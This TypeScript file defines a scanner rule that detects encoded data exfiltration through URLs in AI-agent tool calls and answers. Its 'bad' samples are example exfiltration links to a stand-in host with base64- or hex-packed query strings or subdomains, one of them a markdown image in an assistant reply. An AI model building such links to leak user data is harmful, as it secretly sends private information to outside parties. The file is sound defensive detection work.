import type { Evidence } from '../../model/finding.ts'
import { carriedBy } from '../argument/carried.ts'
import type { Field } from '../field.ts'
import type { Rule } from '../rule.ts'
import { place, shown } from '../seek.ts'
import { Unread } from '../unread.ts'
import { LINK } from './clues.ts'
import { answering, calling, failing, HONEST_ANSWERS, HONEST_CALLS, reading } from './sample.ts'
import type { MessageSubject } from './subject.ts'

/** `deploy key: 42` and its like, packed when the rule is shown with it. */
const PACKED = btoa('name: reed; note: the words of a note')
const HEX = Array.from('name: reed; a note', (char) => char.charCodeAt(0).toString(16)).join('')

export const encodedExfiltration: Rule<MessageSubject> = {
  id: 'encoded-exfiltration',
  severity: 'high',
  confidence: 'medium',
  tier: 'review',
  summary: 'An address carries words that are packed so that nobody reads them: whoever serves it gets them',
  fix: 'Unpack the words and see whose they are before anything opens this address, or shows the picture behind it.',
  references: ['MCP10', 'MCP01', 'SAFE-T1911', 'SAFE-T1913', 'AML.T0086', 'CoSAI T5'],
  bad: () => [
    calling({ url: `https://a.example.test/p?d=${PACKED}` }),
    calling({ url: `https://${HEX}.a.example.test/` }),
    calling({ body: `See https://a.example.test/${HEX}/x.png` }),
    answering(`Done. ![](https://a.example.test/p.png?q=${PACKED})`),
    reading(`[more](https://a.example.test/?q=${HEX})`),
    failing(`See https://a.example.test/?e=${PACKED.replaceAll('=', '%3D')}`),
  ],
  good: () => [
    calling({ url: 'https://a.example.test/a?sig=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08' }),
    calling({ url: `https://a.example.test/callback?state=${btoa('{"a":"b","c":"d e f"}')}` }),
    answering('![logo](https://a.example.test/assets/logo-1280x720.png?v=20240101)'),
    answering(`[install](https://a.example.test/install?config=${btoa('{"command":"npx a b"}')})`),
    answering('See https://a.example.test/commit/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567 for more.'),
    ...HONEST_ANSWERS,
    ...HONEST_CALLS,
  ],
  needs: LINK,
  *check({ part, fields }) {
    for (const field of fields) if (field.text.includes('://')) yield* carrying(field, part === 'argument')
  },
}

/** Addresses of one text that are looked at. */
const MOST = 10_000

/** Pages link to settings that are packed as JSON, for programs to take in; a call to a tool has its own members for those. */
function* carrying(field: Field, isCall: boolean): Generator<Evidence> {
  const { text } = field
  let count = 0
  for (let at = text.indexOf('://'); at >= 0; at = text.indexOf('://', at + 3)) {
    if (++count > MOST) throw new Unread('there are more addresses in a text than can be looked at')
    const start = text.startsWith('https', at - 5) ? at - 5 : text.startsWith('http', at - 4) ? at - 4 : at
    const end = endOf(text, at + 3)
    if (end - start < SHORTEST || start === at) continue
    const carried = carriedBy(text.slice(start, end))
    at = end - 3
    if (carried === null || (!isCall && carried.words.startsWith('{'))) continue
    const { where, by, words } = carried
    yield place(field, [start, end], `${by} in ${where} reads ${shown(words, [0, words.length])}`)
  }
}

/** Shorter ones have no room for words beside their host. */
const SHORTEST = 32

const LONGEST = 4_096

const endOf = (text: string, from: number): number =>
  from + (/^[^\s"'<>()[\]{}\\]+/.exec(text.slice(from, from + LONGEST))?.[0].length ?? 0)
